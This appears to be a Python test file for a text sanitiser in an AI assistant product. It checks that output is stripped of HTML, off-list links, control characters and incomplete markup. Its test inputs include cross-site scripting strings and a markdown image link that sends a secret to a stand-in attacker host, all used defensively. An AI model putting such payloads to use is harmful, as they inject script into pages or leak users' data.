import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringdesk.domains.assistant.providers.harmless import finished, plain, shortened

OURS = frozenset({"https://help.test/a", "https://help.test/b?c=d"})


class TestPlainText:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("Hello <b>you</b>", "Hello you"),
            ("<img src=x onerror=alert(1)>", ""),
            ("<scr<script>ipt>alert(1)</scr</script>ipt>", "script>alert(1)/script>"),
            ("<<b>script>", "script>"),
            ("a <!-- hidden --> b", "a  b"),
            ("open <a href='x", "open a href='x"),
            ("2 < 3 and 4 > 3", "2 < 3 and 4 > 3"),
            ("I <3 you", "I <3 you"),
            ("![pixel](https://evil.test/?q=secret)", "pixel"),
            ("[click](https://evil.test)", "click"),
            ("[click](javascript:alert(1))", "click"),
            ("[a][b]\n\n[b]: https://evil.test", "[a][b]\n\n[b]: "),
            ("[ours](https://help.test/a)", "ours (https://help.test/a)"),
            ("[https://help.test/a](https://help.test/a)", "https://help.test/a"),
            ("See https://help.test/a.", "See https://help.test/a."),
            ("See https://help.test/b?c=d, please", "See https://help.test/b?c=d, please"),
            ("See https://help.test/a/../b", "See "),
            ("See https://help.test.evil.test/a", "See "),
            ("HTTPS://EVIL.TEST/x", ""), ("//evil.test/x", "//"), ("www.evil.test", ""),
            ("evil.test/path", ""), ("ftp://evil.test", ""), ("data:text/html,x", ""),
            ("mailto:a@b.org", ""), ("javascript:alert(1)", "(1)"),
            ("Use Node.js and example.com", "Use Node.js and example.com"),
            ("and/or, 24/7, 1.5/2", "and/or, 24/7, "),
            ("a\u202eb\u200bc\x00d\x1b[31m\ufeff", "abcd[31m"),
            ("line\none\ttab", "line\none\ttab"),
            ("👩\u200d💻", "👩\u200d💻"),
        ],
    )  # fmt: skip
    def test_is_what_is_left(self, text: str, shown: str) -> None:
        assert plain(text, OURS) == shown

    @given(st.text(alphabet="<>/!ab[]() .:\n\"'=h", max_size=80))
    def test_holds_no_tag(self, text: str) -> None:
        assert not re.search(r"<[a-zA-Z/!?]", plain(text))

    @given(st.text(max_size=200))
    def test_stays_as_it_is(self, text: str) -> None:
        assert plain(plain(text)) == plain(text)

    @pytest.mark.parametrize(
        "text", ["<" * 20_000, "[" * 20_000, "[](" * 6_000, "a." * 10_000, "<a " * 6_000,
                 "http://" * 3_000, "![a](" * 4_000, "[](" + " " * 20_000],
    )  # fmt: skip
    def test_is_there_soon_whatever_was_written(self, text: str) -> None:
        assert len(plain(text)) <= len(text)


class TestShortened:
    @pytest.mark.parametrize(
        ("text", "most", "shown"),
        [
            ("Short.", 10, "Short."), ("  Short.  ", 6, "Short."),
            ("One sentence. Another one.", 20, "One sentence."),
            ("Words without an end", 14, "Words without…"),
            ("Unbreakable", 5, "Unbr…"), ("ab", 1, "…"), ("", 5, ""),
        ],
    )  # fmt: skip
    def test_ends_where_a_reader_would(self, text: str, most: int, shown: str) -> None:
        assert shortened(text, most) == shown

    @given(st.text(max_size=200), st.integers(1, 100))
    def test_is_never_longer(self, text: str, most: int) -> None:
        assert len(shortened(text, most)) <= most


class TestFinished:
    @pytest.mark.parametrize(
        ("text", "ready"),
        [
            ("Hello the", "Hello "), ("Hello there ", "Hello there "), ("See https://evil", "See "),
            ("An <a href='x y'", "An "), ("A [link](htt", "A "), ("A [link", "A "),
            ("To [EMAIL_1]", "To "), ("An ![image", "An "), ("", ""), ("word", ""),
        ],
    )  # fmt: skip
    def test_is_all_but_what_may_still_change(self, text: str, ready: str) -> None:
        assert text[: finished(text)] == ready
